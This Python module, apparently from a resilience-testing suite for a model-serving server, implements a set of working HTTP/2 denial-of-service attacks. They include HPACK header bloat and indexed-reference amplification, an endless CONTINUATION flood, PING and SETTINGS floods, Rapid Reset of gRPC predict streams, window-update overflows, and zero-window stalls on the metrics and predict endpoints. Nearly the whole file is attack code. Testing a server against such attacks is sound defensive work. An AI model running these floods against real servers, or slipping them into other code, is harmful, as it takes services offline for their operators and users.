"""Attacks with features of HTTP/2: header compression, control frames, resets, closed windows."""

import contextlib
import itertools
import time
from collections.abc import Callable, Iterator

import numpy as np
from abuse.attacks import wire
from abuse.attacks.attacker import Counts, Target

from serving.client import predict_request

_METRICS = "/monitoring/prometheus/metrics"
_BIG_VALUE = 3900  # with name and 32 bytes of overhead it fits the default table of 4,096 bytes


def _blocks(block: bytes, stream: int) -> bytes:
    """Return the frames of a request whose header block continues in CONTINUATION frames."""
    parts = [block[at : at + 16000] for at in range(0, len(block), 16000)]
    frames = []
    for number, part in enumerate(parts):
        flags = wire.END_HEADERS if number == len(parts) - 1 else 0
        if number == 0:
            flags |= wire.END_STREAM
        kind = wire.CONTINUATION if number else wire.HEADERS
        frames.append(wire.frame(kind, part, flags=flags, stream=stream))
    return b"".join(frames)


def _on_ten_connections(target: Target, stream_bytes: Callable[[int], bytes]) -> Counts:
    """Send 175 kB of header blocks on each of ten connections, repeatedly."""
    connections = sent = closed = 0
    while target.left() and connections < 300:
        opened = []
        for _ in range(10):
            connections += 1
            try:
                connection = wire.Connection(target.address)
                opened.append(connection)
                on_this = 0
                while on_this < 175_000 and target.left():
                    content = stream_bytes(connection.stream())
                    connection.socket.sendall(content)
                    on_this += len(content)
                    sent += len(content)
                    connection.receive()
            except OSError:
                closed += 1
        time.sleep(min(0.5, target.left()))
        for connection in opened:
            connection.close()
    return {"connections": connections, "kB": sent // 1000, "closed by the server": closed}


def hpack_many_headers(target: Target) -> Counts:
    """Send requests with 4,000 small headers each."""
    fields = wire.request_fields("GET", "/healthz")
    block = wire.header_block([*fields, *((f"x-{number}", "1") for number in range(4000))])
    return _on_ten_connections(target, lambda stream: _blocks(block, stream))


def hpack_indexed(target: Target) -> Counts:
    """Put one large header into the table, then send 15,000 references to it in each request."""
    start = wire.header_block(wire.request_fields("GET", "/healthz"))
    large = wire.header(b"x-large", b"a" * _BIG_VALUE, indexed=True)

    def stream_bytes(stream: int) -> bytes:
        again = large if stream == 1 else b""
        return _blocks(start + again + b"\xbe" * 15000, stream)  # 0xbe: the newest entry

    return _on_ten_connections(target, stream_bytes)


def continuation_flood(target: Target) -> Counts:
    """Send header blocks that never end, in frames of one header each."""
    part = wire.frame(wire.CONTINUATION, wire.header(b"x-a", b"1" * 90), stream=1) * 100
    start = wire.header_block(wire.request_fields("GET", "/healthz"))
    begin = wire.frame(wire.HEADERS, start, stream=1)
    return _flood(target, lambda: itertools.chain([begin], itertools.repeat(part)), most=40_000)


def _flood(
    target: Target, contents: Callable[[], Iterator[bytes]], *, most: int, streams: int = 1
) -> Counts:
    """Send contents on one connection after another, each until the server closes it.

    Args:
        target: The server to attack.
        contents: Returns the contents to send on a new connection.
        most: Limit on the number of sends, over all connections.
        streams: Number of frames or requests in one send, for the count.
    """
    sent = connections = 0
    while target.left() and sent < most:
        connections += 1
        connection = None
        try:
            connection = wire.Connection(target.address, timeout=0.5)
            for content in contents():
                connection.socket.sendall(content)
                sent += 1
                with contextlib.suppress(BlockingIOError):
                    connection.receive()
                if not target.left() or sent >= most:
                    break
        except OSError:
            time.sleep(0.01)
        finally:
            if connection is not None:
                connection.close()
    return {"connections": connections, "sent": sent * streams}


def ping_flood(target: Target) -> Counts:
    pings = wire.frame(wire.PING, b"12345678") * 200
    return _flood(target, lambda: itertools.repeat(pings), most=20_000, streams=200)


def settings_flood(target: Target) -> Counts:
    values = wire.settings({wire.INITIAL_WINDOW_SIZE: 1000, wire.HEADER_TABLE_SIZE: 0}) * 200
    return _flood(target, lambda: itertools.repeat(values), most=20_000, streams=200)


def rapid_reset(target: Target) -> Counts:
    """Send requests and reset each of them with the next frame."""
    body = wire.grpc_body(
        predict_request("identity", {"x": np.ones((1, 3), np.float32)}).SerializeToString()
    )
    block = wire.header_block(wire.grpc_fields(wire.PREDICT))

    def contents() -> Iterator[bytes]:
        for first in itertools.count(1, 100):
            yield b"".join(
                wire.frame(wire.HEADERS, block, flags=wire.END_HEADERS, stream=stream)
                + wire.frame(wire.DATA, body, flags=wire.END_STREAM, stream=stream)
                + wire.reset(stream)
                for stream in range(first, first + 100, 2)
            )

    return _flood(target, contents, most=3000, streams=50)


def window_overflow(target: Target) -> Counts:
    """Raise the windows of connection and stream over 2^31 - 1, or by zero."""
    request = wire.frame(
        wire.HEADERS,
        wire.header_block(wire.request_fields("GET", _METRICS)),
        flags=wire.END_HEADERS | wire.END_STREAM,
        stream=1,
    )
    most = (1 << 31) - 1
    kinds = itertools.cycle(
        [
            wire.window_update(most) * 100,
            request + wire.window_update(most, 1) * 100,
            request + wire.window_update(0, 1),
            wire.window_update(0),
            wire.settings({wire.INITIAL_WINDOW_SIZE: 1 << 31}),
        ]
    )
    return _flood(target, lambda: iter([next(kinds)] * 3), most=20_000)


def shut_windows(
    target: Target, connections: int, streams: int, fields: list[tuple[str, str]], body: bytes
) -> Counts:
    """Send requests on connections whose windows of size 0 prevent the answers, and wait."""
    opened = []
    asked = closed = 0
    for _ in range(connections):
        try:
            connection = wire.Connection(target.address, values={wire.INITIAL_WINDOW_SIZE: 0})
            opened.append(connection)
            for _ in range(streams):
                connection.request(fields, body)
                asked += 1
                if not target.left():
                    break
            connection.receive()
        except OSError:
            closed += 1
    while target.left():
        for connection in list(opened):
            try:
                connection.receive()
            except OSError:
                closed += 1
                opened.remove(connection)
        time.sleep(min(0.2, target.left()))
    for connection in opened:
        connection.close()
    return {"connections": connections, "asked": asked, "closed by the server": closed}


def zero_window_metrics(target: Target) -> Counts:
    """Request the metrics page 200 times on each of 60 connections, without reading a byte."""
    return shut_windows(target, 60, 200, wire.request_fields("GET", _METRICS), b"")


def zero_window_predict(target: Target) -> Counts:
    """Request 100 answers of 120 kB on each of 20 connections, with requests of 70 bytes."""
    request = predict_request("wide", {"x": np.ones((1, 1), np.float32)})
    body = wire.grpc_body(request.SerializeToString())
    return shut_windows(target, 20, 100, wire.grpc_fields(wire.PREDICT), body)


ATTACKS = {
    "hpack_many_headers": hpack_many_headers,
    "hpack_indexed": hpack_indexed,
    "continuation_flood": continuation_flood,
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "rapid_reset": rapid_reset,
    "window_overflow": window_overflow,
    "zero_window_metrics": zero_window_metrics,
    "zero_window_predict": zero_window_predict,
}
